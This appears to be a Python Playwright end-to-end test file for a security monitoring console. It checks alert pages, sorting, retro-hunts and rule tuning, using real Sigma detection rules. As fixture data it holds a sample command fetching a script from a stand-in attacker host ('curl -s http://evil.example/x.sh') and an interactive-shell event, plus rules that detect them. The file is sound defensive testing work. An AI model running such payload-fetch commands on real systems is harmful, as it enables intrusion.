"""The explained alert page, server-side sorting, the retro-hunt page and tuning on the rule page,
in a real browser (Debian's chromium via Playwright) over the real HTTPS server. Events go into
a real SQLite store and alerts are raised from them by the collector's detection stage with real
Sigma rules. A screenshot of the page at a failing step is saved in test-artifacts/."""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest

from api.apienv import Env, launch, make_env
from aurora.collector.detect import DetectionStage
from aurora.collector.store.base import HostRecord, IncomingBatch
from aurora.config.detection import DetectionConfig
from e2e.browser import logged_in_page, need_chromium

pytestmark = [pytest.mark.browser]

SENSOR = "sensor-e2e-1"
CURL_RULE = "00000000-0000-0000-0000-0000000e2e01"
SHELL_RULE = "00000000-0000-0000-0000-0000000e2e02"
RULES = {
    "curl.yml": f"""title: Download from the evil domain
id: {CURL_RULE}
description: A process fetched a payload from evil.example.
references:
    - https://example.org/evil-downloads
falsepositives:
    - Security scanners probing the domain
level: high
tags:
    - attack.command-and-control
    - attack.t1105
logsource:
    product: linux
    category: process_creation
detection:
    selection_tool:
        Image|endswith: /curl
    selection_target:
        CommandLine|contains: evil.example
    condition: all of selection_*
""",
    "shell.yml": f"""title: Interactive shell from sshd
id: {SHELL_RULE}
level: low
logsource:
    product: linux
    category: process_creation
detection:
    s:
        CommandLine: bash -i
    condition: s
""",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    need_chromium()
    env = make_env(tmp_path_factory.mktemp("hunting"))
    rules = env.state_dir / "rules"
    rules.mkdir()
    for name, text in RULES.items():
        (rules / name).write_text(text)
    t0 = int(time.time() * 1000) - 600_000
    env.store.register_host(
        HostRecord(
            sensor_id=SENSOR,
            hostname="app-1",
            os_name="Debian",
            os_version="12",
            enrolled_ms=t0,
            last_seen_ms=t0,
            connected=True,
            health="ok",
            isolation="none",
        )
    )
    events = [
        launch(1, 0, "systemd", t0),
        launch(100, 1, "sshd", t0 + 1000),
        launch(200, 100, "bash", t0 + 2000, "bash -i"),
        launch(300, 200, "curl", t0 + 3000, "curl -s http://evil.example/x.sh"),
        launch(301, 200, "ls", t0 + 3100, "ls -la"),
    ]
    stage = DetectionStage.from_config(DetectionConfig(), state_dir=rules.parent)
    hits = [(e, [r.id for r in stage.engine.match_rules(e)]) for e in events]
    alerts = stage.evaluate(SENSOR, [h for h in hits if h[1]])
    assert sorted(a.rule_uid for a in alerts) == [CURL_RULE, SHELL_RULE]
    env.store.ingest([IncomingBatch(SENSOR, 1, events, received_ms=t0 + 4000)], alerts)
    yield env
    env.close()


def open_page(site: Env, role: str) -> Iterator[Any]:
    with logged_in_page(site.server.url, role, f"console-hunting-{role}") as tab:
        yield tab


@pytest.fixture
def analyst(site: Env) -> Iterator[Any]:
    yield from open_page(site, "analyst")


@pytest.fixture
def admin(site: Env) -> Iterator[Any]:
    yield from open_page(site, "admin")


def alert_id(site: Env, rule: str) -> int:
    return next(a.alert_id for a in site.store.list_alerts() if a.rule_uid == rule)


def test_alert_page_explains_itself(site: Env, analyst: Any) -> None:
    from playwright.sync_api import expect

    page = analyst
    page.goto(f"{site.server.url}/alerts/{alert_id(site, CURL_RULE)}")
    expect(page.locator("#rule-description")).to_contain_text("fetched a payload from evil.example")
    rows = page.locator("#matched-fields tbody tr")
    expect(rows).to_have_count(2)
    expect(rows.filter(has_text="CommandLine")).to_contain_text("curl -s http://evil.example/x.sh")
    expect(rows.filter(has_text="CommandLine")).to_contain_text("selection_target")
    expect(page.locator("#evidence mark").first).to_contain_text("evil.example")
    link = page.locator("#attack-links a").first
    expect(link).to_have_attribute("href", "https://attack.mitre.org/techniques/T1105/")
    expect(page.locator("#attack-links")).to_contain_text("TA0011")
    expect(page.locator("#falsepositives")).to_contain_text("Security scanners")
    expect(page.locator("#alert-references a")).to_have_attribute(
        "href", "https://example.org/evil-downloads"
    )
    expect(page.locator("#process-tree")).to_contain_text("curl -s http://evil.example/x.sh")
    expect(page.locator("#process-tree")).to_contain_text("bash -i")
    related = page.locator("#related-alerts tbody tr")
    expect(related).to_have_count(1)
    expect(related).to_contain_text("Interactive shell from sshd")
    expect(page.locator('#alert-actions [data-respond="kill"]')).to_have_text("Kill pid 300")
    expect(page.locator('#alert-actions [data-respond="isolate"]')).to_be_visible()
    expect(page.locator('#alert-actions [data-respond="unisolate"]')).to_have_count(0)
    expect(page.locator("#alert-actions a", has_text="Retro-hunt")).to_have_attribute(
        "href", f"/hunts?rule={CURL_RULE}"
    )
    expect(page.locator("#alert-actions a", has_text="Tune")).to_have_count(0)  # admin only
    # killing from the alert queues the command for the host
    page.on("dialog", lambda d: d.accept())
    page.click('#alert-actions [data-respond="kill"]')
    expect(page.locator("#toast")).to_contain_text("kill requested")
    assert any(
        c.action == "kill" and c.params.get("pid") == 300
        for c in site.store.list_commands(sensor_id=SENSOR)
    )


def test_alert_table_sorts_on_the_server(site: Env, analyst: Any) -> None:
    from playwright.sync_api import expect

    page = analyst
    first = page.locator("#alerts-table tbody tr").first
    with page.expect_response(lambda r: "sort=severity" in r.url and "order=desc" in r.url):
        page.click("#alerts-table a.sort[data-sort=severity]")
    expect(first).to_contain_text("Download from the evil domain")
    with page.expect_response(lambda r: "sort=severity" in r.url and "order=asc" in r.url):
        page.click("#alerts-table a.sort[data-sort=severity]")
    expect(first).to_contain_text("Interactive shell from sshd")
    assert (
        page.get_attribute("#alerts-table a.sort[data-sort=severity]", "aria-sort") == "ascending"
    )


def test_retro_hunt_from_the_console(site: Env, analyst: Any) -> None:
    from playwright.sync_api import expect

    page = analyst
    page.goto(f"{site.server.url}/hunts?rule={SHELL_RULE}")
    expect(page.locator("#hunt-form [name=rule_id]")).to_have_value(SHELL_RULE)
    since = time.strftime("%Y-%m-%dT%H:%M", time.gmtime(time.time() - 3600))
    page.fill("#hunt-form [name=since]", since)
    page.fill("#hunt-form [name=hosts]", "app-1")
    page.click("#hunt-form button[type=submit]")
    row = page.locator("#hunts-table tbody tr").first
    expect(row).to_contain_text("Interactive shell from sshd")
    expect(row.locator(".state")).to_have_text("done")
    expect(row).to_contain_text("100%")
    expect(row.locator("td").nth(7)).to_have_text("5")  # every stored event was read
    expect(row.locator("td").nth(8)).to_have_text("1")
    retro = [a for a in site.store.list_alerts() if a.title.startswith("Retro-hunt: ")]
    assert [a.rule_uid for a in retro] == [SHELL_RULE]
    # a broken rule is refused with pySigma's reason, and nothing starts
    page.fill("#hunt-form [name=yaml]", "title: broken\n")
    page.click("#hunt-form button[type=submit]")
    expect(page.locator("#hunt-errors li").first).to_be_visible()
    expect(page.locator("#hunts-table tbody tr")).to_have_count(1)


def test_tuning_from_the_rule_page(site: Env, admin: Any) -> None:
    from playwright.sync_api import expect

    page = admin
    page.goto(f"{site.server.url}/rules/{CURL_RULE}")
    expect(page.locator("#tuning-empty")).to_be_visible()
    page.fill("#tuning-form [name=field]", "ParentImage|endswith")
    page.fill("#tuning-form [name=values]", "/bash\n/zsh")
    page.fill("#tuning-form [name=hosts]", "app-1")
    page.fill("#tuning-form [name=comment]", "admins fetch test payloads")
    page.click("#tuning-form button[type=submit]")
    row = page.locator("#tuning-table tbody tr")
    expect(row).to_have_count(1)
    expect(row).to_contain_text("ParentImage|endswith = /bash | /zsh")
    expect(row).to_contain_text("app-1")
    expect(page.locator("#tuned-out")).to_contain_text("0 matches tuned out")
    text = (site.state_dir / "tuning.yaml").read_text()
    assert CURL_RULE in text and "/zsh" in text
    row.locator("button", has_text="Remove").click()
    expect(page.locator("#tuning-table tbody tr")).to_have_count(0)
    expect(page.locator("#tuning-empty")).to_be_visible()
    audit = site.client("admin").get("/api/v1/audit", params={"actor": "admin"}).json()
    assert [e["action"] for e in audit["items"][:2]] == ["tuning.remove", "tuning.add"]
